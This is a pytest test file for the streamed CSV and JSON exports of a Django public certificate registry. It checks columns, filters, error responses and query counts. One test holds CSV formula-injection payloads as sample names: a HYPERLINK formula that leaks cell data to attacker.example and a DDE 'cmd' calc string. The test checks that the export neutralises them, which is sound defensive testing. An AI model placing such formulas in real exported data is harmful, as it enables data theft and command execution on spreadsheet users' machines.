"""/registry/export.csv and /registry/export.json: the whole public registry, streamed, one public_row per certificate."""

import csv
import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from registry.public.selectors import public_certificates, public_row, public_rows
from registry.public.views.exports import COLUMNS, csv_cell
from tests import factories as f

pytestmark = pytest.mark.django_db


def certified(provider_name=None, **kw):
    provider = f.provider(legal_name=provider_name) if provider_name else f.provider()
    service = f.service(provider, **{k: v for k, v in kw.items() if k in ("name", "slug", "service_model")})
    f.eu_sites(service)
    return f.certificate(service, **{k: v for k, v in kw.items() if k in ("status", "conditions")})


def body(response) -> bytes:
    assert response.streaming, "exports are streamed, never built in memory"
    return b"".join(response.streaming_content)


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"), newline="")))


@pytest.fixture
def registry_rows():
    return [
        certified(name="Nuage Compute", conditions="Only the Paris region."),
        certified(name="Stockage Objet", status="suspended"),
        certified(name="Ancien Service", status="withdrawn"),
    ]


def test_the_columns_are_those_of_public_row(registry_rows):
    assert tuple(public_row(registry_rows[0])) == COLUMNS


def test_the_csv_parses_with_a_header_and_one_row_per_live_certificate(client, registry_rows):
    response = client.get(reverse("registry:export-csv"))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv; charset=utf-8")
    rows = csv_rows(response)
    assert rows[0] == list(COLUMNS)
    numbers = [row[0] for row in rows[1:]]
    assert sorted(numbers) == sorted(c.number for c in registry_rows[:2])  # the withdrawn one is in the archive
    by_number = {row[0]: dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]}
    first = by_number[registry_rows[0].number]
    assert first["status"] == "active"
    assert first["conditions"] == "Only the Paris region."
    assert first["data_countries"] == "FR"
    assert by_number[registry_rows[1].number]["status"] == "suspended"


def test_the_csv_starts_with_a_byte_order_mark_for_spreadsheets_and_is_named_with_the_date(client, registry_rows):
    response = client.get(reverse("registry:export-csv"))

    assert body(response).startswith(b"\xef\xbb\xbfcertificate,")
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="trusted-cloud-registry-{today}.csv"'


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(client):
    evil = certified('=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', name="+cmd|' /C calc'!A0")
    certified("@SUM(1+1)", name="-2+3")
    certified("\tTabbed SAS", name="\rReturn")

    rows = csv_rows(client.get(reverse("registry:export-csv")))

    cells = [cell for row in rows[1:] for cell in row]
    assert '\'=HYPERLINK("http://attacker.example/?leak="&A1,"Click")' in cells
    assert "'+cmd|' /C calc'!A0" in cells
    assert {"'@SUM(1+1)", "'-2+3", "'\tTabbed SAS", "'\rReturn"} <= set(cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(row[0] == evil.number for row in rows)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Nuage = ok", "Nuage = ok"),
        (["DE", "FR"], "DE, FR"),
        ([], ""),
        (None, ""),
    ],
)
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


def test_the_json_export_rows_are_public_row_for_each_certificate(client, registry_rows):
    response = client.get(reverse("registry:export-json"))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    document = json.loads(body(response))
    assert document["count"] == 2
    assert document["generated_at"].endswith("Z")
    assert document["rows"] == [public_row(c) for c in public_certificates()]


def test_the_json_export_of_an_empty_registry_is_still_a_document(client, db):
    document = json.loads(body(client.get(reverse("registry:export-json"))))
    assert document["rows"] == []
    assert document["count"] == 0


@pytest.mark.parametrize("name", ["registry:export-csv", "registry:export-json"])
def test_the_registry_page_filters_narrow_the_exports(client, registry_rows, name):
    response = client.get(reverse(name), {"status": "suspended"})

    text = body(response).decode("utf-8-sig")
    assert registry_rows[1].number in text
    assert registry_rows[0].number not in text


@pytest.mark.parametrize("name", ["registry:export-csv", "registry:export-json"])
@pytest.mark.parametrize(
    ("query", "field"),
    [({"status": "nonsense"}, "status"), ({"sort": "price"}, "sort"), ({"scheme": "nope"}, "scheme")],
)
def test_malformed_filters_answer_400_with_the_reason(client, registry_rows, name, query, field):
    response = client.get(reverse(name), query)

    assert response.status_code == 400
    if name.endswith("json"):
        assert field in response.json()["fields"]
    else:
        assert f"{field}: " in response.content.decode()


@pytest.mark.parametrize("name", ["registry:export-csv", "registry:export-json"])
def test_the_exports_cost_a_fixed_number_of_queries(client, django_assert_max_num_queries, name):
    for _ in range(32):
        certified()

    with django_assert_max_num_queries(4):
        # 1. the registry's entries, filtered and sorted in the read model (ids, one chunk of up to 500)
        # 2. those certificates with their service, provider and scheme
        # 3. the storage and processing sites of those services (data_countries)
        # 4. the surveillance dates of those certificates
        response = client.get(reverse(name))
        content = body(response)

    assert content.count(b"urn:tcr:certificate:SNC-") == 32


def test_the_export_urls_are_the_published_contract():
    assert reverse("registry:export-csv") == "/registry/export.csv"
    assert reverse("registry:export-json") == "/registry/export.json"


@pytest.mark.parametrize("name", ["registry:export-csv", "registry:export-json"])
def test_the_exports_queries_do_not_grow_with_the_registry(client, name):
    def queries_for_an_export():
        with CaptureQueriesContext(connection) as context:
            body(client.get(reverse(name)))
        return len(context.captured_queries)

    for _ in range(3):
        certified()
    small = queries_for_an_export()
    for _ in range(60):
        certified()

    assert queries_for_an_export() == small == 4


def test_public_rows_reads_a_chunk_of_certificates_with_one_query_for_their_sites(django_assert_num_queries):
    for _ in range(25):
        certified()

    with django_assert_num_queries(7):
        # 1. the certificates, fetched a chunk at a time from one query
        # 2-7. for each chunk (10 + 10 + 5 certificates), the data sites of its services and its surveillance dates
        rows = list(public_rows(public_certificates(), chunk_size=10))

    assert rows == [public_row(c) for c in public_certificates()]
